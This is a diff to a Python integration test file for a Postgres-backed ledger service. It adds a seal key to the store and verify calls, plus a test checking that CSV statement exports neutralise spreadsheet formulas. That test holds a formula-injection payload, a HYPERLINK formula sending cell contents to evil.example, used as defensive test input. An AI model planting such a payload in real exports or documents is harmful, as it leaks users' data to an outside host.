@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import itertools
 import os
 import subprocess
@@ -16,7 +18,7 @@ import pytest
 from deploy.local import stack as local_stack
 from services.ledger.adapters import postgres
 from services.ledger.domain.entries import GENESIS_HASH, IncomingPosting, make_entry
-from tests.integration.ledger.conftest import LedgerDb
+from tests.integration.ledger.conftest import SEALER, LedgerDb
 from tests.unit.ledger.stories import (
     QIFENG,
     RESERVE_FEN,
@@ -26,6 +28,7 @@ from tests.unit.ledger.stories import (
     granted,
     incoming,
     paid,
+    posting,
     raw_incoming,
 )
 
@@ -49,8 +52,8 @@ async def insert_raw(conn: postgres.Conn, p: IncomingPosting, chain_seq: int = 1
     )
     await conn.execute(
         "INSERT INTO ledger_entries (posting_id, chain, chain_seq, kind, town, correlation_id, "
-        "occurred_at, memo, prev_hash, hash, source_topic, source_partition, source_offset) "
-        "VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, 't', 0, 0)",
+        "occurred_at, memo, prev_hash, hash, source_topic, source_partition, source_offset, "
+        "seal) VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, 't', 0, 0, $11)",
         e.posting_id,
         e.chain,
         e.chain_seq,
@@ -61,6 +64,7 @@ async def insert_raw(conn: postgres.Conn, p: IncomingPosting, chain_seq: int = 1
         e.memo,
         e.prev_hash,
         e.hash,
+        bytes(32),  # 32 bytes, but not the writer's seal: it does not hold the chain key
     )
     for n, ln in enumerate(p.lines, start=1):
         await conn.execute(
@@ -80,7 +84,7 @@ async def count(db: LedgerDb, table: str) -> int:
 
 async def store(db: LedgerDb, postings: list[IncomingPosting]) -> postgres.BatchResult:
     last = max(p.source.offset for p in postings) + 1
-    return await postgres.LedgerStore(db.pool).store_batch(postings, {("t", 0): last})
+    return await postgres.LedgerStore(db.pool, SEALER).store_batch(postings, {("t", 0): last})
 
 
 # ---------------------------------------------------------------- balanced, positive
@@ -231,7 +235,7 @@ async def test_the_same_postings_delivered_twice_are_stored_once(ledger_db: Ledg
     assert first.stored + first.alerts == 70
     assert second.duplicates == 70
     assert await count(ledger_db, "ledger_entries") + await count(ledger_db, "ledger_alerts") == 120
-    report = await postgres.verify(ledger_db.app_url)
+    report = await postgres.verify(ledger_db.app_url, SEALER)
     assert report.ok, report.problems
 
 
@@ -239,7 +243,7 @@ async def test_a_lost_connection_is_retried_and_never_half_writes(
     ledger_db: LedgerDb,
 ) -> None:
     story = [incoming(p, i) for i, p in enumerate(flood(300))]
-    store_ = postgres.LedgerStore(ledger_db.pool, postgres.RetryPolicy(20, 0.05, 0.5))
+    store_ = postgres.LedgerStore(ledger_db.pool, SEALER, postgres.RetryPolicy(20, 0.05, 0.5))
     admin = await asyncpg.connect(ledger_db.admin_url)
     stop = asyncio.Event()
 
@@ -270,7 +274,7 @@ async def test_a_lost_connection_is_retried_and_never_half_writes(
         ledger_db, "ledger_alerts"
     ) == len(story)
     assert await store_.positions("t") == {0: len(story)}
-    assert (await postgres.verify(ledger_db.app_url)).ok
+    assert (await postgres.verify(ledger_db.app_url, SEALER)).ok
 
 
 # ---------------------------------------------------------------- tamper evidence
@@ -280,7 +284,7 @@ async def test_a_lost_connection_is_retried_and_never_half_writes(
 async def test_a_superuser_edit_is_named_by_verify(ledger_db: LedgerDb, bypass: str) -> None:
     story = [incoming(p, i) for i, p in enumerate(flood(20))]
     await store(ledger_db, story)
-    clean = await postgres.verify(ledger_db.app_url)
+    clean = await postgres.verify(ledger_db.app_url, SEALER)
     assert clean.ok
     victim_row = await ledger_db.pool.fetchrow(
         "SELECT posting_id, chain, chain_seq FROM ledger_entries "
@@ -305,7 +309,7 @@ async def test_a_superuser_edit_is_named_by_verify(ledger_db: LedgerDb, bypass: 
             await admin.execute("ALTER TABLE ledger_entries ENABLE TRIGGER USER")
     finally:
         await admin.close()
-    report = await postgres.verify(ledger_db.app_url)
+    report = await postgres.verify(ledger_db.app_url, SEALER)
     assert not report.ok
     first = report.problems[0]
     assert (first.posting_id, first.chain, first.chain_seq) == (
@@ -376,3 +380,42 @@ async def test_migrations_apply_once(ledger_db: LedgerDb) -> None:
     assert uuid.UUID(int=0) not in {
         r["posting_id"] for r in await ledger_db.pool.fetch("SELECT posting_id FROM ledger_entries")
     }
+
+
+async def test_a_statement_cell_that_a_spreadsheet_would_run_is_escaped(
+    ledger_db: LedgerDb,
+) -> None:
+    bait = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    story = [
+        incoming(funded(SUOZHEN), 0),
+        incoming(
+            posting(
+                SUOZHEN,
+                "advance_granted",
+                f"town_reserve_held:{SUOZHEN}",
+                f"town_reserve:{SUOZHEN}",
+                1_000,
+                n=1,
+                memo=bait,
+            ),
+            1,
+        ),
+        incoming(
+            posting(
+                SUOZHEN,
+                "advance_granted",
+                f"town_reserve_held:{SUOZHEN}",
+                f"town_reserve:{SUOZHEN}",
+                1_000,
+                n=2,
+                memo="@SUM(1+1)",
+            ),
+            2,
+        ),
+    ]
+    await store(ledger_db, story)
+    text = await postgres.statement(ledger_db.pool, SUOZHEN, date(2024, 7, 1), date(2024, 7, 1))
+    rows = list(csv.reader(io.StringIO(text)))
+    memos = {r[4] for r in rows[1:]}
+    assert "'" + bait in memos and "'@SUM(1+1)" in memos
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
